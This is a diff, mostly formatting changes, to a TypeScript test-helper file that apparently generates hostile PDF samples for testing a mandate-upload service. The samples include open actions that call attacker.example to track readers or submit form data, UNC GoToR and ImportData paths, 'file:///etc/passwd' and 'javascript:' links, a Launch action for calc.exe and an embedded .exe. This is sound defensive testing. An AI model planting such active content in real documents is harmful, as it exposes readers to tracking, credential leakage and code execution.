@@ -8,8 +8,18 @@ import path from 'node:path';
 import { monitorEventLoopDelay } from 'node:perf_hooks';
 import zlib from 'node:zlib';
 import {
-  PDFArray, PDFDict, PDFDocument, PDFName, PDFRawStream, PDFString, type PDFObject, StandardFonts, concatTransformationMatrix, drawObject,
-  popGraphicsState, pushGraphicsState,
+  PDFArray,
+  PDFDict,
+  PDFDocument,
+  PDFName,
+  PDFRawStream,
+  PDFString,
+  type PDFObject,
+  StandardFonts,
+  concatTransformationMatrix,
+  drawObject,
+  popGraphicsState,
+  pushGraphicsState,
 } from 'pdf-lib';
 import sharp from 'sharp';
 import { generateSelfSigned } from '../../platform/crypto/dev-certificates';
@@ -22,7 +32,12 @@ import { party, makeSiren } from '../../bin/stack/sample-parties';
 import { createWorkflow, jobWhen, setState, startJob, step } from './jobs';
 
 /** Runs a tool from poppler-utils or qpdf on a file: `args` get the input and output paths. */
-export function tool(cmd: string, pdf: Uint8Array, args: (input: string, output: string) => string[], outputName = 'out.pdf'): Buffer {
+export function tool(
+  cmd: string,
+  pdf: Uint8Array,
+  args: (input: string, output: string) => string[],
+  outputName = 'out.pdf',
+): Buffer {
   const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'hostile-'));
   try {
     const input = path.join(dir, 'in.pdf');
@@ -39,7 +54,12 @@ export const cairoRerendered = (pdf: Uint8Array) => tool('pdftocairo', pdf, (i, 
 
 /** A representative's digital signature (PAdES) over the mandate. */
 export const digitallySigned = (pdf: Uint8Array) =>
-  sealPdf(pdf, generateSelfSigned('Élodie Représentante'), { name: 'Élodie', reason: "J'accepte", location: 'Paris', contact: '' });
+  sealPdf(pdf, generateSelfSigned('Élodie Représentante'), {
+    name: 'Élodie',
+    reason: "J'accepte",
+    location: 'Paris',
+    contact: '',
+  });
 
 export { inkSigned };
 
@@ -59,7 +79,10 @@ export async function scanned(pdf: Uint8Array, ocrText?: string): Promise<Uint8A
     execFileSync('pdftoppm', ['-r', '100', '-gray', '-png', path.join(dir, 'in.pdf'), path.join(dir, 'page')]);
     const doc = await PDFDocument.create();
     const font = await doc.embedFont(StandardFonts.Helvetica);
-    for (const file of fs.readdirSync(dir).filter((f) => f.endsWith('.png')).sort()) {
+    for (const file of fs
+      .readdirSync(dir)
+      .filter((f) => f.endsWith('.png'))
+      .sort()) {
       const img = await doc.embedPng(fs.readFileSync(path.join(dir, file)));
       const page = doc.addPage([595.28, 841.89]);
       page.drawImage(img, { x: 0, y: 0, width: 595.28, height: 841.89 });
@@ -76,9 +99,16 @@ export async function scanned(pdf: Uint8Array, ocrText?: string): Promise<Uint8A
 export async function pageWithImage(dict: Record<string, unknown>, data: Uint8Array): Promise<Uint8Array> {
   const doc = await PDFDocument.create();
   const page = doc.addPage([595.28, 841.89]);
-  const ref = doc.context.register(PDFRawStream.of(doc.context.obj({ Type: 'XObject', Subtype: 'Image', ...dict }) as PDFDict, data));
+  const ref = doc.context.register(
+    PDFRawStream.of(doc.context.obj({ Type: 'XObject', Subtype: 'Image', ...dict }) as PDFDict, data),
+  );
   const name = page.node.newXObject('Im', ref);
-  page.pushOperators(pushGraphicsState(), concatTransformationMatrix(595.28, 0, 0, 841.89, 0, 0), drawObject(name), popGraphicsState());
+  page.pushOperators(
+    pushGraphicsState(),
+    concatTransformationMatrix(595.28, 0, 0, 841.89, 0, 0),
+    drawObject(name),
+    popGraphicsState(),
+  );
   return doc.save();
 }
 
@@ -110,37 +140,82 @@ export function appendObject(pdf: Buffer, object: (num: number) => Buffer): Buff
 }
 
 /** An object holding a Flate stream of `data`; `extra`, more of its dictionary (e.g. /Type /ObjStm). */
-export const flateObject = (data: Buffer, extra = '') => (num: number) =>
-  Buffer.concat([Buffer.from(`${num} 0 obj\n<< /Length ${data.length} /Filter /FlateDecode ${extra}>>\nstream\n`, 'latin1'), data, Buffer.from('\nendstream\nendobj\n')]);
+export const flateObject =
+  (data: Buffer, extra = '') =>
+  (num: number) =>
+    Buffer.concat([
+      Buffer.from(`${num} 0 obj\n<< /Length ${data.length} /Filter /FlateDecode ${extra}>>\nstream\n`, 'latin1'),
+      data,
+      Buffer.from('\nendstream\nendobj\n'),
+    ]);
 
-export type ActiveContent = 'javascript' | 'launch' | 'embedded-file' | 'xfa'
-  | 'uri-on-opening' | 'submit-form' | 'gotor-unc' | 'import-data' | 'javascript-uri-link' | 'file-uri-link' | 'uri-on-page-open' | 'goto-then-uri';
+export type ActiveContent =
+  | 'javascript'
+  | 'launch'
+  | 'embedded-file'
+  | 'xfa'
+  | 'uri-on-opening'
+  | 'submit-form'
+  | 'gotor-unc'
+  | 'import-data'
+  | 'javascript-uri-link'
+  | 'file-uri-link'
+  | 'uri-on-page-open'
+  | 'goto-then-uri';
 
 /** Our mandate with active content of one kind (and an ink signature, so that nothing else refuses it). */
 export async function withActiveContent(pdf: Uint8Array, kind: ActiveContent): Promise<Uint8Array> {
   const doc = await PDFDocument.load(await inkSigned(pdf));
   const ctx = doc.context;
   const link = (action: PDFObject) =>
-    doc.getPage(0).node.addAnnot(ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 595, 842], A: action })));
+    doc
+      .getPage(0)
+      .node.addAnnot(ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 595, 842], A: action })));
   const page0 = doc.getPage(0).ref;
-  if (kind === 'uri-on-opening') doc.catalog.set(PDFName.of('OpenAction'), ctx.obj({ S: 'URI', URI: PDFString.of('https://attacker.example/track?m=1') }));
+  if (kind === 'uri-on-opening')
+    doc.catalog.set(
+      PDFName.of('OpenAction'),
+      ctx.obj({ S: 'URI', URI: PDFString.of('https://attacker.example/track?m=1') }),
+    );
   if (kind === 'submit-form') {
-    doc.catalog.set(PDFName.of('OpenAction'), ctx.obj({ S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of('https://attacker.example/collect') } }));
+    doc.catalog.set(
+      PDFName.of('OpenAction'),
+      ctx.obj({ S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of('https://attacker.example/collect') } }),
+    );
   }
-  if (kind === 'gotor-unc') doc.catalog.set(PDFName.of('OpenAction'), ctx.obj({ S: 'GoToR', F: PDFString.of('\\\\attacker.example\\share\\x.pdf'), D: [0, 'Fit'] }));
+  if (kind === 'gotor-unc')
+    doc.catalog.set(
+      PDFName.of('OpenAction'),
+      ctx.obj({ S: 'GoToR', F: PDFString.of('\\\\attacker.example\\share\\x.pdf'), D: [0, 'Fit'] }),
+    );
   if (kind === 'import-data') link(ctx.obj({ S: 'ImportData', F: PDFString.of('\\\\attacker.example\\x.fdf') }));
   if (kind === 'javascript-uri-link') link(ctx.obj({ S: 'URI', URI: PDFString.of('javascript:alert(1)') }));
   if (kind === 'file-uri-link') link(ctx.obj({ S: 'URI', URI: PDFString.of('file:///etc/passwd') }));
-  if (kind === 'uri-on-page-open') doc.getPage(0).node.set(PDFName.of('AA'), ctx.obj({ O: { S: 'URI', URI: PDFString.of('https://attacker.example/') } }));
+  if (kind === 'uri-on-page-open')
+    doc
+      .getPage(0)
+      .node.set(PDFName.of('AA'), ctx.obj({ O: { S: 'URI', URI: PDFString.of('https://attacker.example/') } }));
   if (kind === 'goto-then-uri') {
-    doc.catalog.set(PDFName.of('OpenAction'), ctx.obj({ S: 'GoTo', D: [page0, 'Fit'], Next: { S: 'URI', URI: PDFString.of('https://attacker.example/') } }));
+    doc.catalog.set(
+      PDFName.of('OpenAction'),
+      ctx.obj({ S: 'GoTo', D: [page0, 'Fit'], Next: { S: 'URI', URI: PDFString.of('https://attacker.example/') } }),
+    );
   }
-  if (kind === 'javascript') doc.catalog.set(PDFName.of('OpenAction'), ctx.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("pwned")') }));
+  if (kind === 'javascript')
+    doc.catalog.set(PDFName.of('OpenAction'), ctx.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("pwned")') }));
   if (kind === 'launch') {
-    const link = ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [56, 56, 200, 80], A: { S: 'Launch', F: PDFString.of('calc.exe') } }));
+    const link = ctx.register(
+      ctx.obj({
+        Type: 'Annot',
+        Subtype: 'Link',
+        Rect: [56, 56, 200, 80],
+        A: { S: 'Launch', F: PDFString.of('calc.exe') },
+      }),
+    );
     doc.getPage(0).node.addAnnot(link);
   }
-  if (kind === 'embedded-file') await doc.attach(Buffer.from('MZ not really a program'), 'invoice.exe', { mimeType: 'application/octet-stream' });
+  if (kind === 'embedded-file')
+    await doc.attach(Buffer.from('MZ not really a program'), 'invoice.exe', { mimeType: 'application/octet-stream' });
   if (kind === 'xfa') {
     const xfa = ctx.register(ctx.stream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>'));
     doc.catalog.set(PDFName.of('AcroForm'), ctx.obj({ Fields: ctx.obj([]) as PDFArray, XFA: xfa }));
@@ -152,9 +227,16 @@ export async function withActiveContent(pdf: Uint8Array, kind: ActiveContent): P
 export async function withWebLink(pdf: Uint8Array): Promise<Uint8Array> {
   const doc = await PDFDocument.load(await inkSigned(pdf));
   const ctx = doc.context;
-  doc.getPage(0).node.addAnnot(ctx.register(ctx.obj({
-    Type: 'Annot', Subtype: 'Link', Rect: [56, 56, 200, 80], A: { S: 'URI', URI: PDFString.of('https://annuaire.example.gouv.fr/') },
-  })));
+  doc.getPage(0).node.addAnnot(
+    ctx.register(
+      ctx.obj({
+        Type: 'Annot',
+        Subtype: 'Link',
+        Rect: [56, 56, 200, 80],
+        A: { S: 'URI', URI: PDFString.of('https://annuaire.example.gouv.fr/') },
+      }),
+    ),
+  );
   doc.catalog.set(PDFName.of('OpenAction'), ctx.obj([doc.getPage(0).ref, PDFName.of('Fit')]));
   return doc.save();
 }
@@ -165,7 +247,8 @@ export async function withWebLink(pdf: Uint8Array): Promise<Uint8Array> {
  * Ink off the page, an Invisible Stamp with no appearance.
  */
 export async function withUnseenAnnotation(
-  pdf: Uint8Array, kind: 'hidden-stamp' | 'empty-ink' | 'noview-ink' | 'blank-appearance' | 'off-page-ink' | 'invisible-stamp',
+  pdf: Uint8Array,
+  kind: 'hidden-stamp' | 'empty-ink' | 'noview-ink' | 'blank-appearance' | 'off-page-ink' | 'invisible-stamp',
 ): Promise<Uint8Array> {
   const doc = await PDFDocument.load(pdf);
   const ctx = doc.context;
@@ -175,8 +258,19 @@ export async function withUnseenAnnotation(
   const annot = {
     'hidden-stamp': { Subtype: 'Stamp', Rect: [330, 120, 530, 180], F: 2 },
     'empty-ink': { Subtype: 'Ink', Rect: [0, 0, 0, 0], InkList: [] },
-    'noview-ink': { Subtype: 'Ink', Rect: [320, 120, 520, 180], F: 32, InkList: strokes, AP: { N: appearance('330 130 m 500 140 l S') } },
-    'blank-appearance': { Subtype: 'Ink', Rect: [320, 120, 520, 180], InkList: strokes, AP: { N: appearance('q 0 0 1 rg Q') } },
+    'noview-ink': {
+      Subtype: 'Ink',
+      Rect: [320, 120, 520, 180],
+      F: 32,
+      InkList: strokes,
+      AP: { N: appearance('330 130 m 500 140 l S') },
+    },
+    'blank-appearance': {
+      Subtype: 'Ink',
+      Rect: [320, 120, 520, 180],
+      InkList: strokes,
+      AP: { N: appearance('q 0 0 1 rg Q') },
+    },
     'off-page-ink': { Subtype: 'Ink', Rect: [-5320, -5120, -5120, -5060], InkList: [[-5310, -5110, -5130, -5070]] },
     'invisible-stamp': { Subtype: 'Stamp', Rect: [330, 120, 530, 180], F: 1, Name: 'Approved' },
   }[kind];
@@ -188,7 +282,11 @@ export async function withUnseenAnnotation(
 export async function withInlineImage(pdf: Uint8Array, head: string, times = 1): Promise<Uint8Array> {
   const doc = await PDFDocument.load(await inkSigned(pdf));
   const image = Buffer.concat([Buffer.from(`BI ${head} ID `), new Uint8Array(16), Buffer.from('\nEI ')]);
-  const body = Buffer.concat([Buffer.from('q 200 0 0 60 330 120 cm '), ...Array.from({ length: times }, () => image), Buffer.from('Q\n')]);
+  const body = Buffer.concat([
+    Buffer.from('q 200 0 0 60 330 120 cm '),
+    ...Array.from({ length: times }, () => image),
+    Buffer.from('Q\n'),
+  ]);
   doc.getPage(0).node.addContentStream(doc.context.register(PDFRawStream.of(doc.context.obj({}) as PDFDict, body)));
   return doc.save();
 }
@@ -197,11 +295,19 @@ export async function withInlineImage(pdf: Uint8Array, head: string, times = 1):
  * Our mandate (with an ink signature) with `times` inline images each begun in one content stream of the page and
  * ended in the next (a reader reads a page's streams as one): no stream alone holds a whole image.
  */
-export async function withSplitInlineImages(pdf: Uint8Array, head: [string, string], times: number): Promise<Uint8Array> {
+export async function withSplitInlineImages(
+  pdf: Uint8Array,
+  head: [string, string],
+  times: number,
+): Promise<Uint8Array> {
   const doc = await PDFDocument.load(await inkSigned(pdf));
   for (let n = 0; n < times; n++) {
     for (const part of [`q 200 0 0 60 330 120 cm BI ${head[0]}`, `${head[1]} ID \x00\nEI Q`]) {
-      doc.getPage(0).node.addContentStream(doc.context.register(PDFRawStream.of(doc.context.obj({}) as PDFDict, Buffer.from(part, 'latin1'))));
+      doc
+        .getPage(0)
+        .node.addContentStream(
+          doc.context.register(PDFRawStream.of(doc.context.obj({}) as PDFDict, Buffer.from(part, 'latin1'))),
+        );
     }
   }
   return doc.save();
@@ -221,7 +327,15 @@ export const passwordProtected = async (pdf: Uint8Array) =>
 
 /** A 12-megapixel phone photo (4032 × 3024 JPEG) of something card-like, under 4 MB. */
 export async function phonePhoto(): Promise<Buffer> {
-  return sharp({ create: { width: 4032, height: 3024, channels: 3, background: '#d8dde6', noise: { type: 'gaussian', mean: 128, sigma: 12 } } })
+  return sharp({
+    create: {
+      width: 4032,
+      height: 3024,
+      channels: 3,
+      background: '#d8dde6',
+      noise: { type: 'gaussian', mean: 128, sigma: 12 },
+    },
+  })
     .jpeg({ quality: 80 })
     .toBuffer();
 }
@@ -263,9 +377,16 @@ export const sha256 = (b: Uint8Array) => crypto.createHash('sha256').update(b).d
 export async function parked(h: Harness) {
   const entryId = crypto.randomUUID();
   expect((await h.api('PUT', `/silo/v1/entries/${entryId}`, { data: party(makeSiren()) })).status).toBe(200);
-  const wf = await createWorkflow(h, [step('gov-fr.agreement.sign'), setState('processing'), step('gov-fr.agreement.wait.approval'), setState('completed')]);
+  const wf = await createWorkflow(h, [
+    step('gov-fr.agreement.sign'),
+    setState('processing'),
+    step('gov-fr.agreement.wait.approval'),
+    setState('completed'),
+  ]);
   await jobWhen(h, await startJob(h, wf, entryId), ['WAIT']);
-  const res = await fetch(`${h.baseUrl}/apps/gov-fr/v1/entry/${entryId}/agreement`, { headers: { authorization: `Bearer ${h.apiKey}` } });
+  const res = await fetch(`${h.baseUrl}/apps/gov-fr/v1/entry/${entryId}/agreement`, {
+    headers: { authorization: `Bearer ${h.apiKey}` },
+  });
   const mandate = Buffer.from(await res.arrayBuffer());
   const number = (await PDFDocument.load(mandate)).getTitle()!.replace('Mandat ', '');
   return { entryId, mandate, number };
